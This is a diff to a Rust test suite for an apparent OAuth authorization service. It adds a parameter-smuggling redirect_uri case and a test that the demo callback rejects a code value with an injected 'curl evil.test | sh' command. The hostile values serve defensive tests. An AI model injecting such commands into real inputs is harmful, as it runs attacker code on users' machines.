@@ -20,6 +20,7 @@ both_backends!(
     guesses_at_the_same_moment_meet_the_lockout,
     pages_carry_no_store_and_anti_framing,
     control_characters_are_unknown_not_errors,
+    the_demo_callback_shows_only_a_code,
 );
 
 /// Cases 1, 2, 4, 8: no redirect to an untrusted address.
@@ -60,6 +61,11 @@ async fn authorize_refuses_untrusted_clients_and_redirects_on_a_page(app: TestAp
         format!(
             "response_type=code&client_id={id}&redirect_uri={}",
             encode("https://client.test/cb?c%6Fde=x")
+        ),
+        // and after a `;`, which some query parsers take as a separator
+        format!(
+            "response_type=code&client_id={id}&redirect_uri={}",
+            encode("https://client.test/cb?x=1;code=x")
         ),
         // 2: a registered parameter again under an encoded name, with another value
         format!(
@@ -470,4 +476,26 @@ mod the_lockout_counts_clients_behind_a_trusted_proxy {
     async fn postgres() {
         super::the_lockout_counts_clients_behind_a_trusted_proxy(Backend::Postgres).await;
     }
+}
+
+/// The sandbox's demo callback shows a code and the curl line that exchanges it; what is
+/// not a code of Souk's alphabet never goes into that line (the reader pastes it into a
+/// shell: `x;curl evil|sh` would run).
+async fn the_demo_callback_shows_only_a_code(app: TestApp) {
+    let shown = app
+        .request(reqwest::Method::GET, "/accounts/demo-callback?code=Ab-9_z")
+        .send()
+        .await;
+    assert_eq!(shown.status(), 200);
+    assert!(shown.text().await.unwrap().contains("-d code=Ab-9_z"));
+    let hostile = app
+        .request(
+            reqwest::Method::GET,
+            "/accounts/demo-callback?code=x%3Bcurl%20evil.test%7Csh",
+        )
+        .send()
+        .await;
+    assert_eq!(hostile.status(), 400);
+    let page = hostile.text().await.unwrap();
+    assert!(!page.contains("evil.test"), "{page}");
 }
